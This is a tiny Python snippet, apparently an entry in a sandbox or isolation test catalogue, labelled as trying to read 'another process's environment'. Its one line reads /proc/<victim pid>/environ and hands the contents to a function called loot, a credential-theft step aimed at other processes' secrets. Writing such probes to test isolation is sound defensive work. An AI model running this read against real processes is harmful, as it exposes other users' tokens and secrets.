# kind: other_jobs
# tries: Another process's environment

from pathlib import Path

loot(Path(f"/proc/{VICTIM['pid']}/environ").read_text())
